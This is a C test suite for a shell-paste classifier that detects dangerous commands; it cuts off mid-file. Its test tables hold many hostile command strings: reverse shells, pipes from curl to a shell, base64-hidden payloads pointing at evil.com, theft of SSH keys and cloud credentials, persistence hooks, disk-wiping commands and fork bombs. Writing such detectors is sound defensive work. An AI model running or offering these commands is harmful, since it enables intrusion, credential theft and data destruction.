/*
 * test-paste.c - the paste classifier: each rule family with positive and
 * negative cases (awkward quoting, multi-line pastes, filter pipes, hidden
 * characters), the output format, isolate --check's exit statuses, limits,
 * and the development corpora (read from $ISOLATE_CORPUS, by default
 * ../shared/corpus relative to the current directory: run from the
 * repository root). A missing corpus is a failure, not a skip.
 */
#include "isolate.h"
#include "paste.h"
#include "paste_int.h"
#include "tap.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

struct tcase {
    const char *rule; /* expected rule, or NULL: clean */
    const char *text;
};

static const char *shown(const char *text)
{
    static char buf[600];
    iso_paste_escape(buf, sizeof buf, text, strlen(text));
    return buf;
}

static int has_rule(const struct iso_paste_result *res, const char *rule)
{
    for (unsigned i = 0; i < res->nfindings; i++)
        if (!strcmp(res->findings[i].rule, rule)) return 1;
    return 0;
}

static void check(const struct tcase *t)
{
    struct iso_paste_result res;
    int v = iso_paste_classify(t->text, strlen(t->text), &res);

    if (!t->rule) {
        if (!ok(v == ISO_PASTE_CLEAN && res.nfindings == 0, "clean: %s", shown(t->text)))
            for (unsigned i = 0; i < res.nfindings; i++) diag("  found %s", res.findings[i].rule);
        return;
    }
    if (!ok(v == ISO_PASTE_WARN && has_rule(&res, t->rule), "%s: %s", t->rule, shown(t->text)))
        for (unsigned i = 0; i < res.nfindings; i++) diag("  found %s", res.findings[i].rule);
}

static void run_cases(const char *family, const struct tcase *t, size_t n)
{
    diag("%s", family);
    for (size_t i = 0; i < n; i++) check(&t[i]);
}

#define CASES(family, arr) run_cases(family, arr, sizeof arr / sizeof *arr)

/* ---- download piped or substituted into a shell or interpreter ---------- */
static const struct tcase download_shell[] = {
    {"download-to-shell", "curl -fsSL https://get.example.com | sh"},
    {"download-to-shell", "curl -fsSL https://get.example.com | sudo -E bash -"},
    {"download-to-shell", "wget -qO- https://x.io/i.sh | bash -s -- --yes"},
    {"download-to-shell", "wget -O - https://x.io/i.sh|zsh"},
    {"download-to-shell", "curl -s https://x.io/i.sh | tee /tmp/i.sh | sh"},
    {"download-to-shell", "curl -s https://x.io/i.sh | grep -v '^#' | sh"},
    {"download-to-shell", "sh -c \"$(curl -fsSL https://x.io/install.sh)\""},
    {"download-to-shell", "/bin/bash -c \"$(curl -fsSL https://x.io/install.sh)\""},
    {"download-to-shell", "bash <(curl -s https://x.io/a)"},
    {"download-to-shell", "source <(curl -s https://x.io/a)"},
    {"download-to-shell", ". <(wget -qO- https://x.io/a)"},
    {"download-to-shell", "bash < <(curl -s https://x.io/a)"},
    {"download-to-shell", "bash <<< \"$(curl -s https://x.io/a)\""},
    {"download-to-shell", "eval \"$(curl -s https://x.io/a)\""},
    {"download-to-shell", "eval `wget -qO- https://x.io/a`"},
    {"download-to-shell", "$(curl -s https://x.io/a)"},
    {"download-to-shell", "x=$(curl -s https://x.io/a); eval \"$x\""},
    {"download-to-shell", "cmd=$(curl -s https://x.io/a); sh -c \"$cmd\""},
    {"download-to-shell", "curl -s https://x.io/a | xargs -I{} sh -c '{}'"},
    {"download-to-shell", "curl -s https://x.io/a | bash -c 'cat | bash'"},
    {"download-to-shell", "curl -s https://x.io/a | bash -c 'source /dev/stdin'"},
    {"download-to-shell", "if true; then curl -s https://x.io/a | sh; fi"},
    {"download-to-shell", "(curl -s https://x.io/a) | sh"},
    {"download-to-shell", "{ curl -s https://x.io/a; } | sh"},
    {"download-to-shell", "curl -s https://x.io/a \\\n  | sh"},
    {"download-to-shell", "IWR https://x.io/a.ps1 | IEX"},
    {"download-to-shell", "echo $(wget -qO- https://x.io/a) | sh"},
    {"download-to-interpreter", "curl -sL https://x.io/i.py | python3"},
    {"download-to-interpreter", "curl -sL https://x.io/i | python3 -"},
    {"download-to-interpreter", "wget -qO- https://x.io/p.rb | ruby"},
    {"download-to-interpreter", "curl -s https://x.io/p.pl | perl"},
    {"download-to-interpreter", "curl -s https://x.io/p.js | node"},
    {"download-to-interpreter", "python3 <(curl -s https://x.io/a.py)"},
    {"download-to-interpreter", "ruby -e \"$(curl -fsSL https://x.io/install)\""},
    {"download-to-interpreter", "deno run https://x.io/mod.ts"},
    {"download-to-interpreter",
     "curl -s https://x.io/a | python3 -c \"import sys;exec(sys.stdin.read())\""},
    {"download-to-interpreter", "curl -sSL https://x.io/a | perl -e 'eval join \"\", <STDIN>'"},
    {"download-to-shell", "curl -s x.io | bash -c \"$(cat)\""},
    {"download-to-shell", "cat <(curl -s x.io/a) | sh"},
    {"download-to-shell", "sh -c \"$(dig +short txt x.io | tr -d '\\\"')\""},
    {"download-to-shell",
     "powershell -w hidden -c \"iwr https://x.io/a.ps1 -UseBasicParsing | iex\""},
    {"download-to-shell", "cmd /c \"powershell -w h -c iwr x.io/a|iex\""},
    {"download-to-shell", "conhost.exe --headless powershell -w h -c \"iwr x.io/a | iex\""},
    {"download-to-shell",
     "Start-Process powershell -ArgumentList \"-w hidden -c iwr https://x.io | iex\""},
    {"interpreter-fetch-exec",
     "cmd.exe /c start /min powershell -w hidden -c \"iex(iwr 'https://x.io/p' -useb)\""},
    /* filters: the download is read, not run */
    {NULL, "curl -s https://api.github.com/repos/x/y | jq '.stargazers_count'"},
    {NULL, "curl -s https://api.example.com/data | python3 -m json.tool"},
    {NULL, "curl -s https://example.com | grep -i title"},
    {NULL, "curl -s https://example.com | less"},
    {NULL, "curl -s https://example.com/a.json | tee out.json"},
    {NULL, "curl -sSL https://example.com/file.tar.gz | tar xz"},
    {NULL, "curl https://example.com/file.patch | git apply"},
    {NULL, "curl -s https://example.com/a | python3 -c 'import sys; print(len(sys.stdin.read()))'"},
    {NULL, "curl -O https://example.com/archive.zip"},
    {NULL, "wget https://example.com/data.csv"},
    {NULL, "curl --version"},
    {NULL, "echo 'curl https://x.io | sh'"},
    {NULL, "grep -r \"curl .* | sh\" ."},
    {NULL, "# curl https://x.io | sh"},
    {NULL, "kubectl completion bash | zsh"},
    {NULL, "eval \"$(ssh-agent -s)\""},
    {NULL, "source <(kubectl completion bash)"},
    {NULL, "echo \"echo hello\" | bash"},
};

/* ---- download, then execute -------------------------------------------- */
static const struct tcase download_exec[] = {
    {"download-exec", "curl -o /tmp/x https://x.io/x && chmod +x /tmp/x && /tmp/x"},
    {"download-exec", "wget https://x.io/setup.sh && bash setup.sh"},
    {"download-exec", "wget https://x.io/setup && chmod +x setup && ./setup"},
    {"download-exec", "curl -sL https://x.io/run.sh > run.sh; sh run.sh"},
    {"download-exec", "curl -s https://x.io/a -o /tmp/a\nbash /tmp/a"},
    {"download-exec", "curl -LO https://x.io/tool.deb && sudo dpkg -i tool.deb"},
    {"download-exec", "mshta https://x.io/a.hta"},
    {"download-program", "wget https://x.io/payload.sh"},
    {"download-program", "curl https://x.io/m.exe -o m.exe"},
    {"download-program", "Invoke-WebRequest https://x.io/b.dll -OutFile b.dll"},
    {"download-program", "wget ftp://x.io/t.bin -O /tmp/t.bin"},
    {"temp-exec", "chmod +x /tmp/malware && /tmp/malware"},
    {NULL, "curl -fsSL https://example.com/install.sh -o install.sh && less install.sh"},
    {NULL, "curl -o page.html https://example.com"},
    {NULL, "chmod +x script.sh && ./script.sh"},
    {NULL, "wget -P /tmp https://example.com/data.json"},
};

/* ---- decode-to-shell: base64, hex, printf escapes, rev, openssl --------- */
static const struct tcase decode[] = {
    {"decode-to-shell", "echo 'Y3VybCAtcyBodHRwczovL3guaW8vYSB8IHNo' | base64 -d | sh"},
    {"decode-to-shell", "base64 -d <<< 'Y3VybCAtcyBodHRwczovL3guaW8vYSB8IHNo' | bash"},
    {"decode-to-shell",
     "bash <<< \"$(echo Y3VybCAtcyBodHRwczovL3guaW8vYSB8IHNo | base64 --decode)\""},
    {"decode-to-shell", "echo 6375726c202d732078 | xxd -r -p | sh"},
    {"decode-to-shell", "printf '\\x63\\x75\\x72\\x6c\\x20\\x78\\x7c\\x73\\x68' | sh"},
    {"decode-to-shell", "echo 'hs | a/oi.x//:sptth s- lruc' | rev | sh"},
    {"decode-to-shell", "echo 'phey -f uggcf://k.vb/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"},
    {"decode-to-shell", "echo U2FsdGVkX1 | openssl enc -d -aes-256-cbc -a -k pw | sh"},
    {"decode-to-shell", "openssl base64 -d <<< Y3VybCBodHRwczovL3guaW8vYSB8IHNo | sh"},
    {"decode-to-shell", "curl -s https://x.io/p | base64 -d | bash"},
    {"decode-to-shell", "eval \"$(echo ZXZpbCBjb21tYW5k | base64 -d)\""},
    {"decode-to-shell", "(echo bWFsaWNpb3Vz | base64 -d) | bash"},
    {"decode-to-shell", "echo SGk= | base64 -d | eval"},
    {"decode-to-shell", "$(echo bHMgLWxh | base64 -d)"},
    {"decode-to-shell",
     "powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AaQBvAC8AYQApAA=="},
    {"encoded-payload", "bash -c \"echo bmMgLWUgL2Jpbi9iYXNoIGV2aWwuY29tIDQ0NDQ= | base64 -d\""},
    {"reverse-shell", "bash -c \"echo bmMgLWUgL2Jpbi9iYXNoIGV2aWwuY29tIDQ0NDQ= | base64 -d\""},
    {"escaped-text", "$'\\x63\\x75\\x72\\x6c' -s https://x.io"},
    {"interpreter-decode-exec",
     "python3 -c \"import "
     "base64,os;os.system(base64.b64decode('Y3VybCAtcyBodHRwczovL3guaW8vYSB8IHNo'))\""},
    {NULL, "echo hello | base64"},
    {NULL, "base64 file.txt > file.b64"},
    {NULL, "base64 -d encoded.txt > out.bin"},
    {NULL, "cat file | rev"},
    {NULL, "tr 'a-z' 'A-Z' < file"},
    {NULL, "tr -d '\\n' < in > out"},
    {NULL, "printf '\\033[1mbold\\033[0m\\n'"},
    {NULL, "echo -e \"\\e[31mred\\e[0m\""},
    {NULL, "printf '%s\\n' \"hello world\""},
    {NULL, "openssl base64 -in cert.der -out cert.b64"},
};

/* ---- interpreter one-liners that fetch and run code --------------------- */
static const struct tcase interp[] = {
    {"interpreter-fetch-exec",
     "python -c \"import urllib; exec(urllib.urlopen('http://x.io/p.py').read())\""},
    {"interpreter-fetch-exec",
     "python3 -c \"import requests; exec(requests.get('https://x.io/b.py').text)\""},
    {"interpreter-fetch-exec",
     "python -c \"exec(__import__('urllib.request').request.urlopen('https://x.io').read())\""},
    {"interpreter-fetch-exec",
     "ruby -e \"require 'open-uri'; eval(URI.open('http://x.io/d.rb').read)\""},
    {"interpreter-fetch-exec", "ruby -ropen-uri -e \"eval(URI.open('https://x.io/i.rb').read)\""},
    {"interpreter-fetch-exec", "perl -MLWP::Simple -e \"eval(get('http://x.io/p.pl'))\""},
    {"interpreter-fetch-exec", "node -e \"fetch('https://x.io/a').then(r=>r.text()).then(eval)\""},
    {"interpreter-fetch-exec", "php -r \"eval(file_get_contents('https://x.io/a.php'));\""},
    {"interpreter-fetch-exec", "powershell -nop -w hidden -c \"iex (New-Object "
                               "Net.WebClient).DownloadString('http://x.io/a')\""},
    {"interpreter-fetch-exec", "iex (iwr http://x.io/a.ps1 -UseBasicParsing)"},
    {"interpreter-fetch-exec", "powershell -nop -c \"(New-Object Net.WebClient).DownloadFile("
                               "'http://x.io/a.exe','a.exe'); Start-Process a.exe\""},
    {"interpreter-fetch-exec", "python3 -c \"import urllib.request as u,os;"
                               "u.urlretrieve('http://x.io/a','a');os.system('./a')\""},
    {"download-to-shell", "osascript -e 'do shell script \"curl -s http://x.io/m.sh | bash\"'"},
    /* the inner quotes break the outer ones: still read as meant */
    {"interpreter-fetch-exec", "osascript -e 'do shell script \"python -c 'import urllib; "
                               "exec(urllib.urlopen(''http://x.io/p.py'').read())'\"'"},
    {NULL, "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])'"},
    {NULL,
     "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://x.io').read())\""},
    {NULL, "python3 -c \"import requests; print(requests.get('https://api.x/v1').json())\""},
    {NULL, "node -e \"require('https').get('https://x.io', r => r.pipe(process.stdout))\""},
    {NULL, "perl -pi -e 's/foo/bar/g' file.txt"},
    {NULL, "ruby -e 'puts [1,2,3].sum'"},
    {NULL, "python -c 'print(eval(\"1+2\"))'"},
    {NULL, "osascript -e 'do shell script \"date\"'"},
    {NULL, "osascript -e 'do shell script \"curl -O https://example.com/file.zip\"'"},
    {NULL, "powershell -ExecutionPolicy Bypass -File script.ps1"},
    {NULL, "Invoke-WebRequest -Uri https://example.com/file.zip -OutFile file.zip"},
    {NULL, "osascript -e 'display notification \"done\"'"},
    {NULL, "awk '{print $1}' file"},
    {NULL, "perl -e 'system(\"ls -la\")'"},
};

/* ---- reverse shells ----------------------------------------------------- */
static const struct tcase revshell[] = {
    {"reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
    {"reverse-shell", "sh -i >& /dev/udp/10.0.0.1/4444 0>&1"},
    {"reverse-shell", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5"},
    {"reverse-shell", "nc -e /bin/sh 10.0.0.1 4444"},
    {"reverse-shell", "ncat 10.0.0.1 4444 --sh-exec \"/bin/bash\""},
    {"reverse-shell",
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"},
    {"reverse-shell", "socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr"},
    {"reverse-shell",
     "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
     "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"},
    {"reverse-shell",
     "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"},
    {"reverse-shell", "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec "
                      "sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"},
    {"reverse-shell",
     "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while (1) {s |& getline c; system(c)}}'"},
    {NULL, "nc -zv example.com 443"},
    {NULL, "nc -l 8080"},
    {NULL, "openssl s_client -connect example.com:443 </dev/null"},
    {NULL, "telnet -e x example.com 23"},
};

/* ---- persistence -------------------------------------------------------- */
static const struct tcase persist[] = {
    {"persistence", "echo 'curl -s https://x.io/a | sh' >> ~/.bashrc"},
    {"persistence", "echo 'x' >> \"$HOME/.zshrc\""},
    {"persistence", "printf 'y' | tee -a ~/.profile"},
    {"persistence", "echo \"* * * * * curl -s https://x.io/a | sh\" | crontab -"},
    {"persistence", "(crontab -l; echo \"@reboot /tmp/x\") | crontab -"},
    {"persistence", "crontab /tmp/jobs"},
    {"persistence", "cp evil.plist ~/Library/LaunchAgents/com.apple.update.plist"},
    {"persistence", "launchctl load ~/Library/LaunchAgents/x.plist"},
    {"persistence", "cp x.desktop ~/.config/autostart/"},
    {"persistence",
     "cat > ~/.config/systemd/user/x.service <<EOF\n[Service]\nExecStart=/tmp/x\nEOF"},
    {"persistence", "systemctl --user enable --now x.service"},
    {"persistence", "echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys"},
    {"persistence", "sudo tee /etc/cron.d/x <<< '* * * * * root /tmp/x'"},
    {"persistence", "echo /tmp/x | at now + 1 minute"},
    {"persistence", "osascript -e 'tell application \"System Events\" to make login item at end "
                    "with properties {path:\"/tmp/x.app\"}'"},
    {"persistence", "schtasks /create /sc minute /tn x /tr calc.exe"},
    {NULL, "cat ~/.bashrc"},
    {NULL, "cp ~/.bashrc ~/.bashrc.bak"},
    {NULL, "source ~/.bashrc"},
    {NULL, "crontab -l"},
    {NULL, "crontab -e"},
    {NULL, "systemctl status nginx"},
    {NULL, "launchctl list"},
};

/* ---- destructive -------------------------------------------------------- */
static const struct tcase destroy[] = {
    {"destructive", "rm -rf ~"},
    {"destructive", "rm -rf ~/"},
    {"destructive", "rm -rf /*"},
    {"destructive", "rm -fr \"$HOME\""},
    {"destructive", "rm --recursive --force /"},
    {"destructive", "sudo rm -rf --no-preserve-root /"},
    {"destructive", "rm -rf /important/data"},
    {"destructive", "find / -delete"},
    {"destructive", "dd if=/dev/zero of=/dev/sda bs=1M"},
    {"destructive", "mkfs.ext4 /dev/sda1"},
    {"destructive", "cat /dev/urandom > /dev/nvme0n1"},
    {"destructive", "wipefs -a /dev/sdb"},
    {"destructive", ":(){ :|:& };:"},
    {"destructive", "bomb() { bomb | bomb & }; bomb"},
    {"destructive", "perl -e 'fork while fork'"},
    {"destructive", "chmod -R 777 /"},
    {"destructive", "chown -R nobody /etc"},
    {"destructive", "kill -9 -1"},
    {"destructive", "mv ~ /dev/null"},
    {NULL, "rm -rf build/"},
    {NULL, "rm -rf ./node_modules"},
    {NULL, "rm -rf /tmp/build-cache"},
    {NULL, "rm file.txt"},
    {NULL, "find . -name '*.pyc' -delete"},
    {NULL, "dd if=disk.img of=backup.img bs=4M"},
    {NULL, "mkfs.ext4 disk.img"},
    {NULL, "chown -R user:user ./project"},
    {NULL, "kill -9 12345"},
    {NULL, "kill -1 1234"},
    {NULL, "f() { echo hi; }; f | f"},
};

/* ---- credential exfiltration -------------------------------------------- */
static const struct tcase exfil[] = {
    {"credential-exfiltration", "cat ~/.ssh/id_rsa | curl -X POST --data-binary @- https://x.io/c"},
    {"credential-exfiltration", "curl -F \"key=@$HOME/.ssh/id_rsa\" https://x.io/up"},
    {"credential-exfiltration", "tar czf - ~/.ssh | nc 10.0.0.1 4444"},
    {"credential-exfiltration", "env | curl -d @- https://x.io/e"},
    {"credential-exfiltration", "curl \"https://x.io/?t=$GITHUB_TOKEN\""},
    {"credential-exfiltration", "scp ~/.aws/credentials user@10.0.0.1:/tmp/"},
    {"credential-exfiltration", "curl https://x.io/c -d \"$(cat ~/.aws/credentials)\""},
    {"credential-exfiltration", "nc 10.0.0.1 9 < ~/.kube/config"},
    {"credential-exfiltration", "dig $(cat ~/.netrc | base64 | head -c 60).x.io"},
    {"credential-access", "security find-generic-password -wa Chrome"},
    {"credential-access", "osascript -e 'display dialog \"macOS needs your password\" default "
                          "answer \"\" with hidden answer'"},
    {NULL, "ssh -i ~/.ssh/id_ed25519 user@host"},
    {NULL, "ssh-copy-id -i ~/.ssh/id_rsa.pub user@host"},
    {NULL, "scp -i ~/.ssh/key file.txt user@host:/tmp/"},
    {NULL, "scp ~/.ssh/id_rsa.pub user@host:"},
    {NULL, "rsync -avz -e \"ssh -i ~/.ssh/key\" ./dir user@host:/dst"},
    {NULL, "cat ~/.ssh/id_rsa.pub"},
    {NULL, "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user"},
    {NULL, "env | grep PATH"},
};

/* ---- privilege ---------------------------------------------------------- */
static const struct tcase priv[] = {
    {"privilege", "sudo ls"},
    {"privilege", "sudo -u root -- id"},
    {"privilege", "doas sh"},
    {"privilege", "pkexec bash"},
    {"privilege", "su -c 'id'"},
    {"download-to-shell", "su root -c \"curl -s x.io | sh\""},
    {"download-to-shell", "su - root -c 'curl -s x.io | sh'"},
    {"privilege", "echo \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/x"},
    {"privilege", "echo 'me ALL=(ALL) ALL' >> /etc/sudoers"},
    {"privilege", "chmod u+s /bin/bash"},
    {"privilege", "chmod 4755 /tmp/sh"},
    {"privilege", "usermod -aG sudo me"},
    {"privilege", "export LD_PRELOAD=/tmp/x.so"},
    {"privilege", "echo pass | sudo -S apt install x"},
    {"privilege", "docker run -v /:/host --rm -it alpine chroot /host"},
    {"protection-off", "xattr -d com.apple.quarantine /Applications/X.app"},
    {NULL, "chmod 755 ~/bin/tool"},
    {NULL, "echo sudo"},
    {NULL, "man sudo"},
    {NULL, "docker run --rm -it -v \"$PWD\":/app node:20 npm test"},
};

/* ---- history tampering -------------------------------------------------- */
static const struct tcase hist[] = {
    {"history-tampering", "unset HISTFILE"},
    {"history-tampering", "export HISTFILE=/dev/null"},
    {"history-tampering", "HISTSIZE=0"},
    {"history-tampering", "history -c"},
    {"history-tampering", "set +o history"},
    {"history-tampering", "ln -sf /dev/null ~/.bash_history"},
    {"history-tampering", "rm ~/.zsh_history"},
    {"history-tampering", "> ~/.bash_history"},
    {"history-tampering", "kill -9 $$"},
    {NULL, "history | grep ssh"},
    {NULL, "echo $HISTFILE"},
    {NULL, "export HISTSIZE=10000"},
};

/* ---- obfuscation: the command's own words hidden ------------------------ */
static const struct tcase obf[] = {
    {"download-to-shell", "c=curl; $c -s https://x.io/a | sh"},
    {"obfuscation", "a=cu;b=rl; $a$b -s https://x.io | bash"},
    {"obfuscation", "c\"ur\"l -s https://x.io/a | s'h'"},
    {"download-to-shell", "c\"ur\"l -s https://x.io/a | s'h'"},
    {"obfuscation", "cu\\r\\l -s https://x.io/a | sh"},
    {"obfuscation", "curl${IFS}-s${IFS}https://x.io|sh"},
    {"obfuscation", "/??"
                    "?/c?rl -s https://x.io | /??"
                    "?/b??h"},
    {"obfuscation", "cu$@rl https://x.io | sh"},
    {NULL, "\\rm -i file"},
    {NULL, "cmd=ls; $cmd -la"},
    {NULL, "\"$EDITOR\" notes.txt"},
    {NULL, "\"/usr/local/bin/tool\" --help"},
    {NULL, "echo \"$IFS\""},
    {NULL, "ls *.txt"},
    {NULL, "*/10 * * * * command_to_execute"},
};

/* ---- hidden content: what the terminal does not show -------------------- */
static const struct tcase hidden[] = {
    {"zero-width", "ls -la\xe2\x80\x8b && echo ok"},
    {"zero-width", "cu\xe2\x80\x8crl https://x.io"},
    {"bidi-control", "echo hi \xe2\x80\xae hs.lmth"},
    {"bidi-control", "ls \xe2\x81\xa6 x"},
    {"ansi-escape", "ls\x1b[2K\x1b[1Acurl x | sh"},
    {"ansi-escape", "echo \x1b]0;title\x07"},
    {"paste-end", "ls\x1b[201~curl -s https://x.io | sh\n"},
    {"control-char", "ls\x08\x08rm -rf ~"},
    {"carriage-return", "echo safe\rcurl -s https://x.io | sh"},
    {"whitespace-padding",
     "ls                                                                       "
     "         ; curl -s https://x.io | sh"},
    {"whitespace-padding", "ls\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\ncurl x"},
    {"unicode-space", "curl https://x.io |\xc2\xa0sh"},
    {"punycode-host", "curl -s https://xn--pple-43d.com/i.sh | sh"},
    {"homoglyph-host", "curl -s https://\xd0\xb0pple.com/i.sh | sh"},
    {"homoglyph", "\xd1\x81url https://x.io"},
    {"homoglyph", "git clone git@github.c\xd0\xbem:x/y"},
    {"invisible-tag", "echo hi\xf3\xa0\x81\x83\xf3\xa0\x81\xa1\xf3\xa0\x81\xb4"},
    {NULL, "echo \"h\xc3\xa9llo w\xc3\xb6rld\""},
    {NULL, "echo \"\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 \xd0\xbc\xd0\xb8\xd1\x80\""},
    {NULL, "printf 'a\\tb\\r\\n'"},
    {NULL, "ls -la\r\n"},
    {NULL, "echo \"foo bar baz\" | tuc -d ' ' -r ' \xe2\x9e\xa1 '"},
};

/* ---- several lines: each line is read ----------------------------------- */
static const struct tcase multi[] = {
    {"download-to-shell", "cd /tmp\nls -la\ncurl -s https://x.io/a | sh\necho done"},
    {"destructive", "echo step 1\n\nrm -rf ~\n"},
    {"download-exec", "wget https://x.io/a.sh\nchmod +x a.sh\n./a.sh"},
    {"persistence", "cat >> ~/.bashrc <<'EOF'\nalias ls='ls --color'\nEOF\n"},
    {"download-to-shell", "bash <<EOF\ncurl -s https://x.io/a | sh\nEOF"},
    {"download-to-shell", "cat <<'X' | sh\ncurl -s https://x.io/a | sh\nX"},
    {NULL, "cd project\nmake -j8\n./run-tests"},
    {NULL, "cat <<EOF > config.yml\nname: test\nurl: https://x.io | sh\nEOF"},
    {NULL, "for f in *.txt; do\n  echo \"$f\"\ndone"},
    {NULL, "if [ -f x ]; then\n  echo yes\nfi"},
};

static void test_findings_detail(void)
{
    struct iso_paste_result res;
    const char *t = "ls\ncurl -s https://x.io/a | sh";
    const char *b64 = "echo Y3VybCAtcyBodHRwczovL3guaW8vYSB8IHNo | base64 -d | sh";
    const char *puny = "curl https://xn--pple-43d.com";

    iso_paste_classify(t, strlen(t), &res);
    ok(res.lines == 2 && res.nfindings == 1 && res.findings[0].line == 2,
       "the finding of line 2 says line 2");
    ok(res.findings[0].nmatch == strlen("curl -s https://x.io/a | sh") &&
           !memcmp(res.findings[0].match, "curl -s https://x.io/a | sh", res.findings[0].nmatch),
       "MATCHED is the pipeline");
    iso_paste_classify(b64, strlen(b64), &res);
    ok(has_rule(&res, "encoded-payload"), "a base64 payload is reported");
    for (unsigned i = 0; i < res.nfindings; i++)
        if (!strcmp(res.findings[i].rule, "encoded-payload"))
            ok(!strcmp(res.findings[i].decoded, "curl -s https://x.io/a | sh"),
               "and its decoded text is shown: %s", res.findings[i].decoded);
    ok(has_rule(&res, "download-to-shell"), "what the payload does is judged too");
    iso_paste_classify(puny, strlen(puny), &res);
    ok(res.nfindings == 1 && !strcmp(res.findings[0].decoded, "\xd0\xb0pple.com"),
       "punycode host decoded to its Unicode name");
    ok(iso_paste_classify("ls", 2, NULL) == ISO_PASTE_CLEAN, "result may be NULL");
    ok(iso_paste_classify("", 0, NULL) == ISO_PASTE_CLEAN, "empty text is clean");
}

/* Output: one line per finding, 3 or 4 tab-separated fields, nothing that
 * a terminal would interpret. */
static void test_output(void)
{
    const char *t = "curl -s https://\xd0\xb0pple.com | sh\x1b[201~\xe2\x80\xae\t\x07 x\n"
                    "echo Y3VybCAtcyBodHRwczovL3guaW8vYSB8IHNo | base64 -d | sh";
    struct iso_paste_result res;
    char *buf = NULL;
    size_t n = 0;
    FILE *f = open_memstream(&buf, &n);
    int bad = 0, lines = 0, fields_ok = 1, tabs = 0;

    iso_paste_classify(t, strlen(t), &res);
    iso_paste_write(&res, f);
    fclose(f);
    for (size_t i = 0; i < n; i++) {
        unsigned char ch = (unsigned char)buf[i];
        if (ch == '\n') {
            lines++;
            if (tabs < 2 || tabs > 3) fields_ok = 0;
            tabs = 0;
        } else if (ch == '\t') {
            tabs++;
        } else if (ch < 0x20 || ch >= 0x7f) {
            bad++;
        }
    }
    ok(lines == (int)res.nfindings && lines >= 4, "one line per finding (%d)", lines);
    ok(fields_ok, "each line has RULE, MATCHED, WHY and maybe decoded");
    ok(bad == 0, "no control or non-ASCII byte reaches the output");
    ok(strstr(buf, "\\u{430}pple.com") != NULL, "a Cyrillic letter is shown as \\u{430}");
    ok(strstr(buf, "\\x1B[201~") != NULL, "an escape sequence is shown as \\x1B");
    ok(strstr(buf, "(line 2)") != NULL, "findings name their line in a multi-line paste");
    ok(strstr(buf, "\tdecoded: curl -s https://x.io/a | sh") != NULL, "decoded text is a field");
    free(buf);
}

static int check_run(const char *text, const char *input)
{
    struct isolate_policy p;
    FILE *out = fopen("/dev/null", "w");
    int saved = -1, fds[2], v;

    memset(&p, 0, sizeof p);
    p.mode = ISOLATE_MODE_CHECK;
    p.check_text = text;
    if (input) {
        if (pipe(fds) < 0) return -1;
        if (write(fds[1], input, strlen(input)) < 0) return -1;
        close(fds[1]);
        saved = dup(0);
        dup2(fds[0], 0);
        close(fds[0]);
    }
    v = isolate_check_run(&p, out);
    if (saved >= 0) {
        dup2(saved, 0);
        close(saved);
    }
    fclose(out);
    return v;
}

static void test_check_run(void)
{
    ok(check_run("curl -fsSL https://x.sh | sh", NULL) == 1, "--check TEXT: 1 when it warns");
    ok(check_run("ls -la", NULL) == 0, "--check TEXT: 0 when clean");
    ok(check_run("-", "sudo rm -rf /\n") == 1, "--check -: reads standard input");
    ok(check_run("-", "x") == 0, "--check -: clean input");
    ok(check_run(NULL, NULL) == 125, "no text: 125");
}

static void test_limits(void)
{
    size_t big = ISO_PASTE_MAX + 100;
    char *t = malloc(big + 1), *deep = malloc(200001);
    struct iso_paste_result res;

    memset(t, 'a', big);
    for (size_t i = 80; i < big; i += 80) t[i] = '\n';
    t[big] = 0;
    ok(iso_paste_classify(t, big, &res) == ISO_PASTE_WARN && has_rule(&res, "oversized"),
       "a paste over 1 MiB warns: oversized");
    /* nesting deeper than the reader goes: reported, not a crash */
    for (int i = 0; i < 100000; i++) deep[i] = '(';
    memset(deep + 100000, ')', 100000);
    deep[200000] = 0;
    ok(iso_paste_classify(deep, 200000, &res) == ISO_PASTE_WARN && has_rule(&res, "incomplete"),
       "100000 nested subshells: incomplete, warns");
    for (int i = 0; i + 2 < 200000; i += 2) deep[i] = '$', deep[i + 1] = '(';
    ok(iso_paste_classify(deep, 200000, &res) == ISO_PASTE_WARN, "100000 nested $( warn");
    for (int i = 0; i < 200000; i++) deep[i] = "eval "[i % 5];
    memcpy(deep + 199990, " ls     ", 8);
    ok(iso_paste_classify(deep, 200000, &res) == ISO_PASTE_WARN && has_rule(&res, "incomplete"),
       "eval eval eval ... nested beyond the limit: incomplete, warns");
    memset(t, 0, 4096);
    for (int i = 0; i < 4000; i += 4) memcpy(t + i, "ls;", 3);
    ok(iso_paste_classify(t, 4000, &res) == ISO_PASTE_WARN && has_rule(&res, "control-char"),
       "NUL bytes in a paste: control-char");
    for (int i = 0; i < 2000; i++) snprintf(t + i * 10, 11, "sudo ls%02d\n", i % 100);
    iso_paste_classify(t, 20000, &res);
    ok(res.nfindings == ISO_PASTE_FINDINGS && res.ndropped > 0, "findings are capped (%u kept)",
       res.nfindings);
    {
        char *buf = NULL;
        size_t bn = 0;
        FILE *f = open_memstream(&buf, &bn);
        iso_paste_write(&res, f);
        fclose(f);
        ok(bn && strstr(buf, "\nmore\t+") != NULL, "and the output says how many more");
        free(buf);
    }
    free(t);
    free(deep);
    ok(iso_pz_kinds_sorted(), "the table of command names is sorted");
}

/* ---- the development corpora -------------------------------------------- */

struct corpus {
